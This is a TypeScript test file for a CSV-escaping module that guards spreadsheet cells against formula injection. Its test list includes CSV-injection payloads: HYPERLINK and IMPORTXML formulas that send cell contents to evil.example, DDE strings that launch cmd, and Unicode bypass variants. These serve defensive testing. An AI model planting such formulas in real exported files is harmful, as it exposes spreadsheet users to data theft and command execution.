import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { guardCell, toCsvRow, unguardCell } from './csv-cells.ts'

/** Cells that a spreadsheet would compute, or pass to another program (OWASP, "CSV Injection"). */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"Voir")',
  '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  "'=1+1",
  "''=1+1",
  " '=1+1",
  '＝1+1',
  '＠SUM(1)',
  '＋1',
  '－1',
  ';=1+1',
  '";=1+1;"',
  'Jeudi\r\n=1+1',
]

test.each(formulas)('no cell of a table begins a formula: %j', (text) => {
  for (const delimiter of [';', ',']) {
    const rows: string[][] = parse(toCsvRow(['avant', text, 'après'], delimiter), { delimiter })
    expect(rows).toEqual([['avant', guardCell(text), 'après']])
    expect(rows[0]?.[1]).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/)
  }
})

test.each([...formulas, '', "'", "''", "L'Été", "'Round Midnight", 'a=b', ' a', '7', "' =x"])(
  'reads a guarded cell back unchanged: %j',
  (text) => expect(unguardCell(guardCell(text))).toBe(text),
)

test('takes linear time for a text of any length', () => {
  // If two parts of the pattern could match these characters, it would take quadratic time: minutes here.
  const long = ' \t'.repeat(500_000)
  expect(guardCell(`${long}x`)).toBe(`${long}x`)
  expect(guardCell(`x${long}`)).toBe(`x${long}`)
})
